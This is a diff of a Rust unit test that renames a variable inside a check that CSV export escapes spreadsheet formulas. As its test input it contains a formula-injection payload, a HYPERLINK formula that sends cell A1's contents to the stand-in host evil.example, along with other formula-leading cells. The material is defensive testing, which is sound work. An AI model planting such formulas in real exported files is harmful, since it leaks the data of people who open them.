@@ -257,15 +257,15 @@ mod tests {
     #[test]
     fn csv_cells_cannot_be_formulas() {
         let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
-        let csv = csv(&list(evil, "@SUM(1)", "https://x.test/", 0)).expect("csv");
-        let row = csv.lines().nth(1).expect("row");
+        let sheet = csv(&list(evil, "@SUM(1)", "https://x.test/", 0)).expect("csv");
+        let row = sheet.lines().nth(1).expect("row");
         assert!(
             row.starts_with("3,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",'@SUM(1),"),
             "{row}"
         );
         for lead in ["+1", "-1", "=1"] {
-            let csv = csv(&list("t", lead, "", 0)).expect("csv");
-            assert!(csv.contains(&format!(",'{lead},")), "{csv}");
+            let sheet = csv(&list("t", lead, "", 0)).expect("csv");
+            assert!(sheet.contains(&format!(",'{lead},")), "{sheet}");
         }
         let json = json(&list(evil, "a", "", 0)).expect("json");
         assert!(json.contains("\"title\":\"=HYPERLINK"), "JSON keeps the title: {json}");
